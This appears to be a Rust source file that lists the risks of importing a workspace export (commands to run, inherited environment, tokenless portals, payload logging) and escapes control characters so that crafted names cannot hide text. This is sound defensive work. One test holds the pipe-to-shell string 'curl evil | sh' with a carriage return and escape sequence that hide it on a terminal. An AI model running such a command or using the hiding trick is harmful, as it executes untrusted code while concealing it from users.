//! What importing an export would let happen on this machine, for the user to confirm before
//! anything is created: an export is a file from elsewhere, and a crafted one can run
//! programs, open a portal to every local process or log every call.

use serde::Serialize;
use ts_rs::TS;

use super::WorkspaceExport;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum ImportRiskKind {
    /// A stdio server: its command runs on this machine at its first sync.
    RunsCommand,
    /// A stdio server that gets every environment variable, not the allow-listed ones.
    InheritsEnvironment,
    /// A portal without a token: any local process may call it.
    OpenPortal,
    /// A portal that keeps the arguments and results of every call in its log.
    LogsPayloads,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct ImportRisk {
    pub kind: ImportRiskKind,
    /// The server's or portal's name in the export.
    pub subject: String,
    pub message: String,
}

impl WorkspaceExport {
    /// Everything of this export that runs something or opens something up, in file order.
    pub fn risks(&self) -> Vec<ImportRisk> {
        let mut risks = Vec::new();
        let mut push = |kind, subject: &str, message: String| {
            risks.push(ImportRisk {
                kind,
                subject: subject.to_string(),
                message,
            })
        };
        for s in self.servers.iter().filter(|s| !s.transport.is_http()) {
            let name = visible(&s.name);
            let line = std::iter::once(s.command.as_deref().unwrap_or(""))
                .chain(s.args.iter().map(String::as_str))
                .map(visible)
                .collect::<Vec<_>>()
                .join(" ");
            push(
                ImportRiskKind::RunsCommand,
                &s.name,
                format!("server '{name}' runs this command on this machine: {line}"),
            );
            if s.inherit_env {
                push(
                    ImportRiskKind::InheritsEnvironment,
                    &s.name,
                    format!(
                        "server '{name}' gets every environment variable of Patchbay, tokens exported in your shell included"
                    ),
                );
            }
        }
        for p in &self.portals {
            let name = visible(&p.name);
            if !p.secure {
                push(
                    ImportRiskKind::OpenPortal,
                    &p.name,
                    format!(
                        "portal '{name}' has no token: any program on this machine can call its tools"
                    ),
                );
            }
            if p.log_payloads {
                push(
                    ImportRiskKind::LogsPayloads,
                    &p.name,
                    format!(
                        "portal '{name}' keeps the arguments and results of every call in its log"
                    ),
                );
            }
        }
        risks
    }
}

/// The text with control characters spelled out, so that a crafted name or argument cannot
/// rewrite the terminal line or the dialog text it is shown in (an escape sequence, a
/// carriage return hiding what follows it).
fn visible(text: &str) -> String {
    text.chars()
        .flat_map(|c| {
            if c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') {
                c.escape_unicode().collect::<Vec<_>>()
            } else {
                vec![c]
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn export(json: serde_json::Value) -> WorkspaceExport {
        serde_json::from_value(json).unwrap()
    }

    fn server(name: &str, command: &str, args: &[&str], inherit: bool) -> serde_json::Value {
        serde_json::json!({
            "name": name, "description": "", "transport": "stdio", "url": null, "command": command,
            "args": args, "env": {}, "secret_env": [], "cwd": null, "auth_type": "none",
            "api_key_header": null, "is_enabled": true, "template_id": null, "inherit_env": inherit,
        })
    }

    #[test]
    fn lists_commands_inherited_environments_open_portals_and_payload_logs() {
        let doc = export(serde_json::json!({
            "patchbay_export": 1, "workspace": "w",
            "servers": [
                {"name": "web", "description": "", "transport": "streamable_http",
                 "url": "https://x.example/mcp", "command": null, "args": [], "env": {},
                 "secret_env": [], "cwd": null, "auth_type": "none", "api_key_header": null,
                 "is_enabled": true, "template_id": null},
                server("files", "npx", &["-y", "pkg"], true),
            ],
            "portals": [
                {"name": "Safe", "description": "", "secure": true, "log_payloads": false, "servers": []},
                {"name": "Open", "description": "", "secure": false, "log_payloads": true, "servers": []},
            ],
        }));
        let kinds: Vec<_> = doc
            .risks()
            .into_iter()
            .map(|r| (r.kind, r.subject))
            .collect();
        assert_eq!(
            kinds,
            [
                (ImportRiskKind::RunsCommand, "files".to_string()),
                (ImportRiskKind::InheritsEnvironment, "files".to_string()),
                (ImportRiskKind::OpenPortal, "Open".to_string()),
                (ImportRiskKind::LogsPayloads, "Open".to_string()),
            ]
        );
        assert!(doc.risks()[0].message.ends_with(": npx -y pkg"));
    }

    #[test]
    fn control_characters_in_a_command_are_spelled_out() {
        let doc = export(serde_json::json!({
            "patchbay_export": 1, "workspace": "w", "portals": [],
            "servers": [server("x", "curl evil | sh\r\u{1b}[2Kharmless", &["a\u{202e}b"], false)],
        }));
        let message = &doc.risks()[0].message;
        assert!(
            !message.chars().any(|c| c.is_control() || c == '\u{202e}'),
            "{message:?}"
        );
        assert!(
            message.contains("curl evil | sh\\u{d}\\u{1b}[2Kharmless a\\u{202e}b"),
            "{message}"
        );
    }
}
